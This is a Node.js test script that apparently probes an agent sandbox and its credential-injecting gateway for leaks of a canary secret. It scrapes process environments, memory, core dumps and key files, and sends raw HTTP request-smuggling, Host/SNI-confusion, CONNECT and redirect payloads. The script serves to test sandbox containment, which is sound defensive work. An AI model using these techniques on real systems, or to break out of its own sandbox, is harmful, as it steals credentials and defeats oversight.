// Looks for a secret from inside a cell, in every place and way that an agent with patience would try, and writes what
// it saw: one line of JSON for each attempt, { attempt, seen } with `seen` in base64. It does not know the secret; where
// there is too much to write out it looks for the beginning that all secrets of the test share.
import { execFileSync, spawnSync } from 'node:child_process';
import { closeSync, openSync, readdirSync, readFileSync, readlinkSync, readSync, statSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { join } from 'node:path';
import { connect as connectTls } from 'node:tls';

const { api, other, web, plainTls, ways, workspace } = JSON.parse(process.argv[2]);
// in pieces, so that our own memory does not hold it
const START = ['CAN', 'ARY', '-'].join('');
const FORMS = [
  START,
  START.split('').reverse().join(''),
  Buffer.from(START).toString('hex'),
  ...[0, 1, 2].map((pad) =>
    Buffer.concat([Buffer.alloc(pad), Buffer.from(START)])
      .toString('base64')
      .slice(pad === 0 ? 0 : pad + 1, 8),
  ),
];

function report(attempt, seen) {
  const bytes = Buffer.isBuffer(seen) ? seen : Buffer.from(String(seen ?? ''));
  process.stdout.write(
    `${JSON.stringify({ attempt, seen: bytes.subarray(0, 200_000).toString('base64') })}\n`,
  );
}

function attempt(name, work) {
  try {
    report(name, work());
  } catch (error) {
    report(name, `failed: ${error.message}`);
  }
}

/** What of some bytes looks like a secret: each place with what is around it. */
function matches(bytes) {
  const found = [];
  for (const form of FORMS) {
    for (let at = bytes.indexOf(form); at >= 0 && found.length < 40; at = bytes.indexOf(form, at + 1))
      found.push(bytes.toString('latin1', Math.max(0, at - 40), at + 60));
  }
  return found.join('\n');
}

const SCRATCH = Buffer.alloc(8 << 20);
const processes = () => readdirSync('/proc').filter((name) => /^\d+$/.test(name));
const ofAll = (work) =>
  processes()
    .map((pid) => {
      try {
        return work(pid);
      } catch (error) {
        return error.code;
      }
    })
    .join('\n');

attempt('own environment', () => JSON.stringify(process.env));
attempt('environ of every process', () => ofAll((pid) => readFileSync(`/proc/${pid}/environ`, 'latin1')));
attempt('environ of every thread', () =>
  ofAll((pid) =>
    readdirSync(`/proc/${pid}/task`)
      .map((task) => readFileSync(`/proc/${pid}/task/${task}/environ`, 'latin1'))
      .join(''),
  ),
);
attempt('cmdline of every process', () => ofAll((pid) => readFileSync(`/proc/${pid}/cmdline`, 'latin1')));
attempt('maps of every process', () => ofAll((pid) => readFileSync(`/proc/${pid}/maps`, 'latin1')));
attempt('descriptors of every process', () =>
  ofAll((pid) =>
    readdirSync(`/proc/${pid}/fd`)
      .map((fd) => {
        const path = `/proc/${pid}/fd/${fd}`;
        return `${readlinkSync(path)}`;
      })
      .join('\n'),
  ),
);
attempt('files behind descriptors of others', () =>
  ofAll((pid) =>
    pid === String(process.pid)
      ? ''
      : readdirSync(`/proc/${pid}/fd`)
          .map((fd) =>
            statSync(`/proc/${pid}/fd/${fd}`).isFile()
              ? readFileSync(`/proc/${pid}/fd/${fd}`, 'latin1').slice(0, 10_000)
              : '',
          )
          .join(''),
  ),
);
attempt('memory of every process', () =>
  ofAll((pid) => {
    const found = [];
    const memory = openSync(`/proc/${pid}/mem`, 'r');
    for (const line of readFileSync(`/proc/${pid}/maps`, 'latin1').split('\n')) {
      const [range = '', rights = ''] = line.split(' ');
      if (!rights.startsWith('rw')) continue;
      const [from, to] = range.split('-').map((text) => Number.parseInt(text, 16));
      const buffer = SCRATCH.subarray(0, Math.min(to - from, SCRATCH.length));
      try {
        const length = readSync(memory, buffer, 0, buffer.length, from);
        found.push(matches(buffer.subarray(0, length)));
      } catch {}
    }
    closeSync(memory);
    return found.join('');
  }),
);
attempt('other files of proc', () =>
  [
    'self/mountinfo',
    'self/status',
    'self/stat',
    'keys',
    'key-users',
    'net/tcp',
    'net/unix',
    'cmdline',
    'version',
    'sys/kernel/core_pattern',
    '1/environ',
    '1/auxv',
    '1/stack',
    'kcore',
  ]
    .map((name) => {
      try {
        return matches(readFileSync(`/proc/${name}`).subarray(0, 1 << 20));
      } catch (error) {
        return error.code;
      }
    })
    .join('\n'),
);
attempt('memory devices', () =>
  ['/dev/mem', '/dev/kmem', '/dev/port', '/dev/vda', '/dev/sda']
    .map((name) => {
      try {
        return readFileSync(name).length;
      } catch (error) {
        return error.code;
      }
    })
    .join(),
);

/** Every file that can be read, but for what the machine's own software consists of. */
function walk(folder, visit, depth = 0) {
  let entries = [];
  try {
    entries = readdirSync(folder, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries) {
    const path = join(folder, entry.name);
    if (entry.isDirectory()) {
      if (
        !['/proc', '/sys', '/usr', '/opt', '/nix', '/snap'].includes(path) &&
        depth < 12 &&
        !/\/(\.pyenv|\.cargo|\.rustup|\.nvm|node_modules)$/.test(path)
      )
        walk(path, visit, depth + 1);
    } else if (statSync(path, { throwIfNoEntry: false })?.isFile() && !entry.isSymbolicLink()) visit(path);
  }
}
attempt('every readable file', () => {
  const found = [];
  walk('/', (path) => {
    try {
      if (statSync(path).size < 4 << 20) {
        const seen = matches(readFileSync(path));
        if (seen !== '' && !path.endsWith('hunt.mjs')) found.push(`${path}: ${seen}`);
      }
    } catch {}
  });
  return found.join('\n');
});
attempt('names of files', () => {
  const names = [];
  walk('/', (path) => names.push(path));
  return names.join('\n');
});
attempt('the folder of the run', () =>
  execFileSync('sh', ['-c', 'ls -laR /run /etc/ringfence ~/.local "$PWD/.." 2>&1 | head -500']),
);
attempt('shell history and rc files', () =>
  execFileSync('sh', ['-c', 'cat ~/.* /etc/profile /etc/environment 2>/dev/null; set']),
);
attempt('a core dump of our own', () => {
  const child = spawnSync(
    'sh',
    [
      '-c',
      'ulimit -c unlimited; sh -c "kill -ABRT \\$\\$"; ls -la; cat core* /tmp/core* /var/crash/* /var/lib/systemd/coredump/* 2>/dev/null',
    ],
    { cwd: '/tmp' },
  );
  return child.stdout;
});
attempt('a signal to the cell’s init', () => {
  for (const signal of ['SIGQUIT', 'SIGABRT', 'SIGSEGV', 'SIGUSR1']) {
    try {
      process.kill(1, signal);
    } catch {}
  }
  return readFileSync('/proc/1/status');
});
attempt(
  'ptrace of the cell’s init',
  () =>
    spawnSync('gdb', ['-p', '1', '-batch', '-ex', 'info proc mappings'], { timeout: 10_000 }).stdout ??
    'no gdb',
);
attempt('the private key of the run’s authority', () => {
  const found = [];
  walk('/', (path) => {
    try {
      if (
        statSync(path).size < 1 << 20 &&
        /BEGIN (EC )?PRIVATE KEY/.test(readFileSync(path, 'latin1')) &&
        path.startsWith('/etc/ringfence')
      )
        found.push(path);
    } catch {}
  });
  return found.join('\n');
});

/** Sends bytes and takes all that comes back. */
function raw(name, { host, port, tls = true, servername = host, bytes, wait = 4000 }) {
  return new Promise((resolve) => {
    const chunks = [];
    let done = false;
    const finish = (why) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      report(name, Buffer.concat([...chunks, Buffer.from(`\n[${why}]`)]));
      resolve();
    };
    const timer = setTimeout(() => finish('time'), wait);
    const options = { host, port, servername, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] };
    const socket = tls
      ? connectTls(options, () => socket.write(bytes))
      : connect(port, host, () => socket.write(bytes));
    socket.on('data', (chunk) => chunks.push(chunk));
    socket.on('error', (error) => finish(error.code ?? error.message));
    socket.on('close', () => finish('closed'));
  });
}

const head = (line, host, ...more) =>
  `${[line, `Host: ${host}`, ...more, 'Connection: close'].join('\r\n')}\r\n\r\n`;
const at = ({ host, port }) => `${host}:${port}`;

for (const way of ways)
  await raw(`given back: ${way}`, { ...api, bytes: head(`GET /${way}?a=1 HTTP/1.1`, at(api)) });
for (const way of ['plain', 'gzip', 'brotli', 'deflate'])
  await raw(`given back on request: ${way}`, {
    ...api,
    bytes: head(`GET /${way} HTTP/1.1`, at(api), 'Accept-Encoding: gzip, deflate, br, zstd'),
  });
await raw('TRACE', { ...api, bytes: head('TRACE /plain HTTP/1.1', at(api)) });
await raw('HEAD', { ...api, bytes: head('HEAD /header HTTP/1.1', at(api)) });
await raw('OPTIONS *', { ...api, bytes: head('OPTIONS * HTTP/1.1', at(api)) });
await raw('the placeholder in a body', {
  ...api,
  bytes: `${head('POST /plain HTTP/1.1', at(api), `Content-Length: ${process.env.BEARER.length}`)}${process.env.BEARER}`,
});
await raw('the placeholder in another header', {
  ...api,
  bytes: head('GET /plain HTTP/1.1', at(api), `X-Copy: ${process.env.BEARER} \${BEARER}`),
});
await raw('the placeholder in the path', {
  ...api,
  bytes: head(`GET /plain/${process.env.BEARER} HTTP/1.1`, at(api)),
});
await raw('two Authorization headers', {
  ...api,
  bytes: head('GET /plain HTTP/1.1', at(api), 'Authorization: Bearer a', 'Authorization: Bearer b'),
});
await raw('Authorization as a hop-by-hop header', {
  ...api,
  bytes: head('GET /plain HTTP/1.1', at(api), 'Connection: authorization, x-api-key'),
});
await raw('a header of ours folded into the next', {
  ...api,
  bytes: `GET /plain HTTP/1.1\r\nHost: ${at(api)}\r\nX-Copy: a\r\n b\r\nConnection: close\r\n\r\n`,
});
await raw('the query twice', {
  ...api,
  bytes: head('GET /plain?api_key=a&api_key=b&API_KEY=c HTTP/1.1', at(api)),
});
await raw('a fragment that ends in the middle of a line', {
  ...api,
  bytes: head('GET /plain?x=%0d%0aX-Copy:%20 HTTP/1.1', at(api)),
});
await raw('another host, asked itself', { ...other, bytes: head('GET /plain HTTP/1.1', at(other)) });
await raw('another host by the name of the first (Host)', {
  ...other,
  bytes: head('GET /plain HTTP/1.1', at(api)),
});
await raw('another host by the name of the first (SNI)', {
  ...other,
  servername: api.host,
  bytes: head('GET /plain HTTP/1.1', at(api)),
});
await raw('the first host by the name of another (Host)', {
  ...api,
  bytes: head('GET /plain HTTP/1.1', at(other)),
});
await raw('the first host by the name of another (SNI)', {
  ...api,
  servername: other.host,
  bytes: head('GET /plain HTTP/1.1', at(other)),
});
await raw('no SNI', { ...api, servername: '', bytes: head('GET /plain HTTP/1.1', at(api)) });
await raw('the first name at another host’s port', {
  host: api.host,
  port: other.port,
  bytes: head('GET /plain HTTP/1.1', at(api)),
});
await raw('an absolute address of another host', {
  ...api,
  bytes: head(`GET https://${at(other)}/plain HTTP/1.1`, at(api)),
});
await raw('an absolute address of the first at another', {
  ...other,
  bytes: head(`GET https://${at(api)}/plain HTTP/1.1`, at(other)),
});
await raw('CONNECT to another host', { ...api, bytes: head(`CONNECT ${at(other)} HTTP/1.1`, at(other)) });
await raw('CONNECT in the clear', {
  ...web,
  tls: false,
  bytes: head(`CONNECT ${at(api)} HTTP/1.1`, at(api)),
});
await raw('as a proxy in the clear', {
  ...web,
  tls: false,
  bytes: head(`GET https://${at(api)}/plain HTTP/1.1`, at(web)),
});
await raw('in the clear to the TLS port', {
  ...api,
  tls: false,
  bytes: head('GET /plain HTTP/1.1', at(api)),
});
await raw('in the clear to a host of HTTP', {
  ...web,
  tls: false,
  bytes: head('GET /plain HTTP/1.1', at(web)),
});
await raw('in the clear by the name of the first', {
  ...web,
  tls: false,
  bytes: head('GET /plain HTTP/1.1', at(api)),
});
await raw('a host that is not looked into, by the name of the first', {
  ...plainTls,
  bytes: head('GET /plain HTTP/1.1', at(api)),
});
await raw('a second request in a body', {
  ...api,
  bytes: `POST /plain HTTP/1.1\r\nHost: ${at(api)}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /plain HTTP/1.1\r\nHost: ${at(other)}\r\n\r\n`,
});
await raw('two hosts', {
  ...api,
  bytes: `GET /plain HTTP/1.1\r\nHost: ${at(api)}\r\nHost: ${at(other)}\r\nConnection: close\r\n\r\n`,
});
await raw('a user in the address', {
  ...api,
  bytes: head(`GET https://x@${at(api)}@${at(other)}/plain HTTP/1.1`, at(api)),
});
await raw('HTTP/1.0 without a host', { ...api, bytes: 'GET /plain HTTP/1.0\r\n\r\n' });
await raw('HTTP/0.9', { ...api, bytes: 'GET /plain\r\n' });
await raw('HTTP/2 without asking', {
  ...api,
  bytes: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u0004\0\0\0\0\0',
});
await raw('an error of the gateway itself: a head too large', {
  ...api,
  bytes: head('GET /plain HTTP/1.1', at(api), `X: ${'x'.repeat(300_000)}`),
});
await raw('an error of the gateway itself: nonsense', { ...api, bytes: 'NONSENSE\u0000\r\n\r\n' });
await raw('an upgrade', {
  ...api,
  bytes: `GET /plain HTTP/1.1\r\nHost: ${at(api)}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
  wait: 2000,
});

/** A redirect that is followed as curl does, credentials and all. */
attempt(
  'a redirect that is followed',
  () =>
    spawnSync(
      'curl',
      [
        '-sS',
        '-k',
        '-L',
        '--location-trusted',
        '-H',
        `Authorization: Bearer ${process.env.BEARER}`,
        '-D',
        '-',
        `https://${at(api)}/redirect`,
      ],
      { timeout: 10_000 },
    ).stdout,
);
attempt('curl, with all that it says', () => {
  const { stdout, stderr } = spawnSync(
    'curl',
    ['-sv', '-k', '--trace-ascii', '-', `https://${at(api)}/plain`],
    { timeout: 10_000 },
  );
  return Buffer.concat([stdout, stderr]);
});

/** The gateway's own sockets in the cell's network, spoken to directly. */
const ports = () => {
  const text = readFileSync('/proc/net/tcp', 'latin1');
  return [
    ...new Set(
      text
        .split('\n')
        .slice(1)
        .filter((line) => / 0A /.test(line))
        .map((line) => Number.parseInt(line.trim().split(/\s+/)[1].split(':')[1], 16)),
    ),
  ];
};
let listening = [];
try {
  listening = ports();
} catch {}
for (const port of listening.slice(0, 4))
  await raw(`the gateway’s port ${listening.indexOf(port)}`, {
    host: '127.0.0.1',
    port,
    tls: false,
    bytes: head('GET / HTTP/1.1', at(api)),
    wait: 1500,
  });
await new Promise((resolve) => {
  const request = httpRequest(
    {
      host: web.host,
      port: web.port,
      path: '/plain',
      headers: { authorization: `Bearer ${process.env.BEARER}` },
    },
    (response) => {
      const chunks = [];
      response.on('data', (chunk) => chunks.push(chunk));
      response.on('end', () => {
        report('a client that sends the placeholder in the clear', Buffer.concat(chunks));
        resolve();
      });
    },
  );
  request.on('error', (error) => {
    report('a client that sends the placeholder in the clear', error.message);
    resolve();
  });
  request.end();
});
attempt('what the network left behind', () =>
  execFileSync('sh', ['-c', `cat /proc/net/* 2>/dev/null; ls -la /tmp /dev/shm ${workspace}`]),
);
process.stdout.write(`${JSON.stringify({ attempt: 'end', seen: '' })}\n`);
